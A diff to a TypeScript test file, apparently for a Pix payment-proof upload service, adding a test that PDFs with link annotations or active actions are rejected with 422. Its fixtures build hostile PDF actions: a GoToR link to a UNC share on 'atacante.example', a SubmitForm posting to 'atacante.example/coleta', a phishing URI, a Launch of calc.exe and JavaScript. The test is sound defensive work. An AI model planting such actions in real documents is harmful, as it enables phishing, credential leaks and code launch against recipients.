@@ -1,6 +1,7 @@
 // What reaches the owner's mailbox as a Pix proof: images decoded and encoded again (a PNG
 // or JPEG carrying an HTML page after its end or in a metadata chunk arrives as pixels
-// only), and PDFs that can act on opening refused with 422 `proof_active_content` — also
+// only), and PDFs that can act on opening, or on a click, refused with 422
+// `proof_active_content` — links, and every action that opens, submits or launches — also
 // when the action hides in a compressed object stream or behind `#xx` name escapes.
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
@@ -128,6 +129,46 @@ describe('Pix proofs: re-encoded images, inert PDFs only', () => {
     );
     for (const [name, bytes] of Object.entries({ plainText, escaped, hidden, launch, attachment })) {
       const res = await send(bytes, 'c.pdf', 'application/pdf');
+      assert.equal(res.status, 422, `${name}: ${res.status}`);
+      assert.equal(((await res.json()) as { error: string }).error, 'proof_active_content', name);
+    }
+    assert.equal(smtp.messages.length, before, 'nothing mailed');
+  });
+
+  it('422 proof_active_content for link annotations and every action that opens, submits or launches', async () => {
+    const before = smtp.messages.length;
+    /** A page with one annotation of this subtype whose action is `action`. */
+    const annotated = (subtype: string, action: Record<string, unknown>) =>
+      pdf((doc) => {
+        const annot = doc.context.obj({
+          Type: 'Annot',
+          Subtype: subtype,
+          Rect: [0, 0, 200, 20],
+          A: action as never,
+        });
+        doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([annot]));
+      });
+    const text = (s: string) => PDFString.of(s);
+    const cases: Record<string, Promise<Buffer>> = {
+      'GoToR to a UNC path': annotated('Link', {
+        S: 'GoToR',
+        F: text('\\\\atacante.example\\share\\x.pdf'),
+        D: [0, 'Fit'],
+      }),
+      'URI to a phishing page': annotated('Link', {
+        S: 'URI',
+        URI: text('https://banco-falso.example/entrar'),
+      }),
+      GoToE: annotated('Link', { S: 'GoToE', T: { R: 'C', N: text('anexo') } }),
+      Launch: annotated('Link', { S: 'Launch', F: text('calc.exe') }),
+      SubmitForm: annotated('Widget', { S: 'SubmitForm', F: text('https://atacante.example/coleta') }),
+      ImportData: annotated('Widget', { S: 'ImportData', F: text('dados.fdf') }),
+      JavaScript: annotated('Widget', { S: 'JavaScript', JS: text('app.alert(1)') }),
+      Rendition: annotated('Screen', { S: 'Rendition', OP: 0 }),
+      'a link within the document': annotated('Link', { S: 'GoTo', D: [0, 'Fit'] }),
+    };
+    for (const [name, made] of Object.entries(cases)) {
+      const res = await send(await made, 'c.pdf', 'application/pdf');
       assert.equal(res.status, 422, `${name}: ${res.status}`);
       assert.equal(((await res.json()) as { error: string }).error, 'proof_active_content', name);
     }
